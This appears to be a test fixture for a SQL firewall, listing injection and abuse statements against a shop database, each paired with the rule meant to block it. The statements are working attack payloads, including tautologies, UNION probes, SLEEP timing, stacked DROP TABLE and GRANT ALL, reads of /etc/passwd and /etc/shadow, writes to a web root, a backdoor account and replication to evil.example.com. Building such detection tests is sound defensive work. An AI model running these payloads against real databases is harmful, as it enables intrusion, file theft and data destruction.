# Injections and abuse that the firewall must refuse for a user allowed read and write
# (INSERT, UPDATE, DELETE, REPLACE, locking reads) in chain_db, each with the rule that refuses
# it: the statement, a TAB, then the rule id (policy::to_string(Rule)). Where several rules
# match, the id is the first in check order (the order of policy::Rule). Nothing here depends
# on the user also holding ddl: DDL refusals are left to admin and dynamic-SQL statements.
# One statement per line; `\n` in a line stands for a newline. Lines starting with '#' are
# comments.
#
# Tautologies, in many spellings, in WHERE, ON and HAVING of reads and writes.
SELECT id, total FROM orders WHERE customer_id = 7 OR 7=7	tautology
SELECT * FROM customers WHERE email = 'x@y.z' OR 'x'='x'	tautology
SELECT * FROM customers WHERE name = 'a' OR 'b' > 'a'	tautology
SELECT * FROM customers WHERE id = 0 OR 2 >= 1	tautology
SELECT * FROM customers WHERE id = 0 OR 1 <=> 1	tautology
SELECT * FROM customers WHERE id = 0 OR NULL <=> NULL	tautology
SELECT * FROM customers WHERE id = 0 OR 3 != 4	tautology
SELECT * FROM customers WHERE email = '' OR 'abc' = 'ABC   '	tautology
SELECT * FROM customers WHERE email = '' OR 'admin' LIKE '%'	tautology
SELECT * FROM customers WHERE id = 0 OR 1 IS TRUE	tautology
SELECT * FROM customers WHERE id = 0 OR 0 IS FALSE	tautology
SELECT * FROM customers WHERE id = 0 OR 'x' IS NOT NULL	tautology
SELECT * FROM customers WHERE id = 0 OR TRUE IS NOT FALSE	tautology
SELECT * FROM customers WHERE city = '' OR 'x' NOT IN ('y', 'z')	tautology
SELECT * FROM customers WHERE id = 0 OR 2 NOT BETWEEN 5 AND 9	tautology
SELECT * FROM customers WHERE city = '' OR 'm' BETWEEN 'a' AND 'z'	tautology
SELECT * FROM customers WHERE id = 0 OR NOT 0	tautology
SELECT * FROM customers WHERE id = 0 OR NOT FALSE	tautology
SELECT * FROM customers WHERE id = 0 OR -1 = -1	tautology
SELECT * FROM customers WHERE id = 0 OR 1.0 = 1	tautology
SELECT * FROM customers WHERE id = 0 OR '1' = 1	tautology
SELECT * FROM customers WHERE id = 0 OR 10 > '9'	tautology
SELECT * FROM customers WHERE id = 0 OR 0x61 = 0x61	tautology
SELECT * FROM customers c WHERE c.email = 'z' OR c.id = c.id	tautology
SELECT * FROM orders WHERE status = 'x' OR status LIKE status	tautology
SELECT * FROM orders WHERE id = 0 OR id >= id	tautology
SELECT * FROM customers WHERE name = '' || 'x' LIKE 'x'	tautology
SELECT * FROM customers WHERE name = "" OR "1"="1"	tautology
SELECT * FROM customers WHERE email = '' OR/**/'a'/**/=/**/'a'	tautology
SELECT * FROM customers WHERE (email = '' OR (2 = 2))	tautology
SELECT * FROM customers WHERE email = '' or 'A' = 'a' LIMIT 1	tautology
SELECT * FROM customers WHERE email = 'nobody' OR 'a'='a' -- 	tautology
SELECT c.name, o.total FROM customers c JOIN orders o ON o.customer_id = c.id OR 'q' = 'q'	tautology
SELECT customer_id FROM orders GROUP BY customer_id HAVING SUM(total) > 1e9 OR 1	tautology
SELECT * FROM products WHERE id IN (SELECT product_id FROM order_items WHERE order_id = 0 OR 5=5)	tautology
UPDATE customers SET city = 'Nowhere' WHERE id = 99 OR 1=1	tautology
DELETE FROM order_items WHERE order_id = 0 OR TRUE	tautology
UPDATE orders SET status = 'refunded' WHERE id = 0 OR ''=''	tautology
#
# Comment truncation: the rest of the application's statement commented away.
SELECT id FROM customers WHERE email = 'ana@example.com'-- ' AND city = 'Lisbon'	comment_truncation
SELECT * FROM orders WHERE note = 'x' #' AND status = 'paid'	comment_truncation
SELECT * FROM customers WHERE name = 'Liam'/* ' AND id = 2 */	comment_truncation
SELECT * FROM products WHERE sku = 'BK-001'#	comment_truncation
SELECT * FROM customers WHERE email = 'a@b.c' -- "	comment_truncation
SELECT * FROM orders WHERE id = 101 -- ) AND customer_id = 2	comment_truncation
SELECT * FROM orders WHERE (customer_id = 1) # ) AND (status <> 'cancelled')	comment_truncation
SELECT * FROM orders WHERE id = 101 /* AND customer_id = 2 */	comment_truncation
SELECT * FROM orders WHERE customer_id = 1 -- || status = 'paid'	comment_truncation
SELECT * FROM orders WHERE id = 101 # = 5	comment_truncation
SELECT * FROM orders WHERE customer_id = 2 -- xor owner_id = 9	comment_truncation
SELECT * FROM customers WHERE name = 'x'-- '\nAND id = 3	comment_truncation
UPDATE customers SET city = 'Paris' WHERE id = 3 -- AND email = 'x'	comment_truncation
DELETE FROM orders WHERE id = 106 # AND customer_id = 9	comment_truncation
#
# UNION probing: column counting, shown-column search, server fingerprints.
SELECT title FROM products WHERE id = 1 UNION ALL SELECT NULL FROM DUAL	union_probe
SELECT title, price FROM products WHERE id = -1 UNION SELECT NULL, NULL	union_probe
SELECT title, price FROM products WHERE id = -1 union/**/select/**/null,null	union_probe
SELECT id, sku, title, price FROM products WHERE id = 0 UNION SELECT 1,2,3,4	union_probe
SELECT title, price FROM products WHERE id = 0 UNION ALL SELECT 1, 2 FROM DUAL	union_probe
SELECT title FROM products WHERE sku = '' UNION SELECT @@datadir	union_probe
SELECT title FROM products WHERE sku = '' UNION SELECT @@global.secure_file_priv	union_probe
SELECT title, price FROM products WHERE id = 0 UNION SELECT schema(), 1	union_probe
SELECT title FROM products WHERE id = 0 UNION SELECT system_user()	union_probe
SELECT title FROM products WHERE id = 0 UNION SELECT CONCAT(user(), '@', @@hostname)	union_probe
SELECT title FROM products WHERE id = 0 UNION SELECT connection_id()	union_probe
SELECT title, price FROM products WHERE id = 0 UNION ALL SELECT NULL, @@version	union_probe
SELECT title FROM products WHERE id = 0 UNION (SELECT @@version_compile_os)	union_probe
SELECT title FROM products WHERE id = 0 UNION SELECT CURRENT_USER()	union_probe
SELECT title FROM products WHERE sku = '' OR 1=1 UNION SELECT NULL-- -	union_probe
SELECT title, price FROM products WHERE id = 1 ORDER BY 3	union_probe
SELECT sku FROM products WHERE id = 1 ORDER BY 2 DESC	union_probe
SELECT * FROM products WHERE id = 1 ORDER BY 40	union_probe
SELECT id, total FROM orders ORDER BY 1, 2, 3	union_probe
SELECT status, COUNT(*) FROM orders GROUP BY 3	union_probe
#
# Time-based blind injection.
SELECT id FROM orders WHERE status = 'paid' AND 0 = SLEEP(2)	time_delay
SELECT IF(SUBSTRING(@@version, 1, 2) = '10', SLEEP(2), 0)	time_delay
SELECT * FROM orders WHERE id = 101 AND IF(ASCII(SUBSTRING(DATABASE(), 1, 1)) > 97, BENCHMARK(5000000, SHA1('x')), 0)	time_delay
SELECT * FROM customers WHERE name = '' OR SLEEP(2) = 0 -- '	time_delay
SELECT id FROM orders ORDER BY (SELECT SLEEP(1))	time_delay
SELECT BENCHMARK(2000000, SHA2('x', 256))	time_delay
SELECT * FROM products WHERE id = 1 AND (SELECT 42 FROM (SELECT(SLEEP(2)))a)	time_delay
SELECT * FROM products WHERE id = 1 AND SlEeP(2)	time_delay
INSERT INTO orders (customer_id, note) VALUES (1, SLEEP(2))	time_delay
UPDATE customers SET city = 'x' WHERE id = 1 AND SLEEP(2)	time_delay
SELECT title FROM products WHERE id = 0 UNION SELECT SLEEP(2)	time_delay
#
# Encoded payloads: text spelled in hex, CHAR() codes or UNHEX() inside a condition.
SELECT * FROM customers WHERE email = 0x616e61406578616d706c652e636f6d	encoded_payload
SELECT * FROM customers WHERE name LIKE X'254f27427269656e25'	encoded_payload
SELECT * FROM customers WHERE city = CHAR(68, 117, 98, 108, 105, 110)	encoded_payload
SELECT * FROM customers WHERE city = CONCAT(CHAR(76), CHAR(111), 'ndon')	encoded_payload
SELECT * FROM customers WHERE name = UNHEX('4c69616d')	encoded_payload
SELECT * FROM orders WHERE status = CHAR(112, 97, 105, 100 USING ascii)	encoded_payload
SELECT customer_id FROM orders GROUP BY customer_id HAVING MAX(status) = 0x70616964	encoded_payload
SELECT * FROM customers WHERE email LIKE CONCAT(0x25, 0x406578616d706c652e636f6d)	encoded_payload
UPDATE orders SET status = 'paid' WHERE note = 0x67696674207772617020706c65617365	encoded_payload
#
# Stacked statements and compound blocks.
SELECT * FROM customers WHERE id = 1; DROP TABLE customers	stacked_statements
SELECT id FROM orders WHERE note = ''; UPDATE products SET price = 0; -- '	stacked_statements
INSERT INTO orders (customer_id) VALUES (1); DELETE FROM orders	stacked_statements
SELECT 1; SET GLOBAL general_log = 1	stacked_statements
SELECT * FROM products WHERE sku = 'x';SHUTDOWN	stacked_statements
UPDATE customers SET name = 'a' WHERE id = 1;GRANT ALL ON *.* TO 'eve'@'%'	stacked_statements
SELECT 1;\nSELECT 2	stacked_statements
SELECT * FROM orders WHERE id = 101; SELECT * FROM mysql.user	stacked_statements
BEGIN NOT ATOMIC UPDATE products SET stock = 0; SELECT 1; END	stacked_statements
CREATE PROCEDURE wipe() BEGIN DELETE FROM orders; END	stacked_statements
CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'	stacked_statements
#
# Executable comments.
SELECT * FROM customers WHERE id = 1 /*!50000 OR 1=1 */	executable_comment
SELECT id FROM orders /*!40000 WHERE 1=1 */	executable_comment
SELECT/*!*/ name FROM customers	executable_comment
SELECT name FROM customers WHERE id = 1 /*M!100500 UNION SELECT @@version */	executable_comment
SELECT title FROM products WHERE id = 0 /*!50000UNION*/ /*!50000SELECT*/ @@version	executable_comment
DELETE FROM orders /*! WHERE 1=1 */	executable_comment
SELECT 1 /*!99999 ; DROP TABLE orders */	executable_comment
#
# Server files.
SELECT name, email FROM customers INTO OUTFILE '/tmp/customers.csv' FIELDS TERMINATED BY ','	into_outfile
SELECT email FROM customers WHERE id = 1 UNION SELECT 'x' INTO DUMPFILE '/tmp/x.bin'	into_outfile
SELECT * FROM customers WHERE 1=1 OR 1=1 INTO OUTFILE '/var/www/html/c.txt'	into_outfile
SELECT LOAD_FILE('/etc/hostname')	load_file
SELECT * FROM customers WHERE name = LOAD_FILE(0x2f6574632f706173737764)	load_file
UPDATE customers SET city = LOAD_FILE('/etc/hosts') WHERE id = 1	load_file
SELECT load_file /**/ ('/etc/passwd')	load_file
LOAD DATA LOCAL INFILE '/etc/shadow' INTO TABLE customers	load_data
LOAD DATA INFILE '/tmp/orders.csv' REPLACE INTO TABLE orders FIELDS TERMINATED BY ','	load_data
LOAD XML INFILE '/tmp/p.xml' INTO TABLE products ROWS IDENTIFIED BY '<product>'	load_data
#
# Settings that would make the server read text differently from the firewall.
SET sql_mode = 'NO_BACKSLASH_ESCAPES'	unsafe_session_setting
SET SESSION sql_mode = 'STRICT_ALL_TABLES,ANSI_QUOTES'	unsafe_session_setting
SET @@sql_mode = 'oracle'	unsafe_session_setting
SET sql_mode = (SELECT 'ANSI')	unsafe_session_setting
SET sql_mode = 4	unsafe_session_setting
SET NAMES big5	unsafe_session_setting
SET CHARACTER SET cp932	unsafe_session_setting
SET character_set_client = 'gbk_chinese_ci'	unsafe_session_setting
SET autocommit = 0, sql_mode = 'PIPES_AS_CONCAT,ANSI_QUOTES'	unsafe_session_setting
SET STATEMENT sql_mode = 'NO_BACKSLASH_ESCAPES' FOR SELECT 1	unsafe_session_setting
SET GLOBAL sql_mode = 'ANSI_QUOTES'	unsafe_session_setting
#
# Administration, accounts and dynamic SQL: never granted to an application user.
GRANT SELECT ON chain_db.* TO 'app'@'%'	statement_not_allowed
REVOKE ALL PRIVILEGES ON *.* FROM 'reader'@'%'	statement_not_allowed
CREATE USER 'backdoor'@'%' IDENTIFIED BY 'pw'	statement_not_allowed
CREATE OR REPLACE USER 'eve'@'%'	statement_not_allowed
DROP USER 'app'@'%'	statement_not_allowed
ALTER USER 'app'@'%' IDENTIFIED BY 'x'	statement_not_allowed
RENAME USER 'app'@'%' TO 'x'@'%'	statement_not_allowed
CREATE ROLE auditor	statement_not_allowed
CREATE SERVER evil FOREIGN DATA WRAPPER mysql OPTIONS (HOST 'evil.example.com')	statement_not_allowed
SET GLOBAL max_connections = 1	statement_not_allowed
SET @@global.read_only = 0	statement_not_allowed
SET PASSWORD = PASSWORD('x')	statement_not_allowed
SET DEFAULT ROLE admin FOR 'app'@'%'	statement_not_allowed
SHUTDOWN	statement_not_allowed
KILL QUERY 1	statement_not_allowed
KILL CONNECTION 1	statement_not_allowed
FLUSH PRIVILEGES	statement_not_allowed
FLUSH TABLES WITH READ LOCK	statement_not_allowed
RESET MASTER	statement_not_allowed
PURGE BINARY LOGS BEFORE NOW()	statement_not_allowed
CHANGE MASTER TO MASTER_HOST = 'evil.example.com'	statement_not_allowed
STOP SLAVE	statement_not_allowed
START SLAVE	statement_not_allowed
INSTALL SONAME 'ha_connect'	statement_not_allowed
UNINSTALL PLUGIN server_audit	statement_not_allowed
BINLOG 'AAAA'	statement_not_allowed
PREPARE s FROM 'SELECT 1'	statement_not_allowed
EXECUTE s	statement_not_allowed
DO SLEEP(5)	statement_not_allowed
HANDLER customers OPEN	statement_not_allowed
#
# System schemas.
SELECT user, host FROM mysql.user WHERE user = 'root'	system_schema
SELECT * FROM mysql.global_priv	system_schema
SELECT * FROM MYSQL . innodb_table_stats	system_schema
SELECT table_schema, table_name FROM information_schema.tables WHERE table_schema = DATABASE()	system_schema
SELECT * FROM `information_schema`.`schemata`	system_schema
SELECT * FROM information_schema.processlist	system_schema
SELECT * FROM performance_schema.events_statements_history	system_schema
SELECT * FROM sys.session	system_schema
SELECT * FROM sys.sys_config	system_schema
USE performance_schema	system_schema
USE sys	system_schema
SHOW TABLES IN mysql	system_schema
SHOW COLUMNS FROM user FROM mysql	system_schema
SHOW TABLE STATUS FROM information_schema	system_schema
SELECT * FROM customers WHERE id IN (SELECT 1 FROM mysql.db)	system_schema
UPDATE mysql.global_priv SET priv = '{}' WHERE user = 'root'	system_schema
DELETE FROM mysql.proc	system_schema
DESCRIBE mysql.user	system_schema
SELECT * FROM customers c JOIN information_schema.columns ic ON ic.table_name = 'customers'	system_schema
SELECT title FROM products WHERE id = 0 UNION SELECT column_name FROM information_schema.columns WHERE table_name = 'customers'	system_schema
CALL mysql.rds_kill(1)	system_schema
#
# Schemas outside the user's list (names are case-sensitive, as on the server).
SELECT * FROM shop_prod.customers	schema_not_allowed
USE shop_prod	schema_not_allowed
SELECT c.email FROM customers c JOIN crm.contacts k ON k.email = c.email	schema_not_allowed
INSERT INTO archive.orders SELECT * FROM orders	schema_not_allowed
UPDATE hr.salaries SET amount = 1	schema_not_allowed
DELETE FROM other_db.sessions	schema_not_allowed
SELECT other_db.fn_secret(1)	schema_not_allowed
SELECT * FROM `Chain_DB`.orders	schema_not_allowed
SELECT * FROM customers WHERE id = 1 UNION SELECT * FROM crm.leads	schema_not_allowed
LOCK TABLES billing.invoices READ	schema_not_allowed
WITH x AS (SELECT * FROM billing.invoices) SELECT * FROM x	schema_not_allowed
SELECT * FROM `billing`.`invoices`	schema_not_allowed
#
# Broken text: what an unescaped quote in the input leaves.
SELECT * FROM customers WHERE name = 'O'Brien'	unterminated
SELECT * FROM orders WHERE id = 1 /* never closed	unterminated
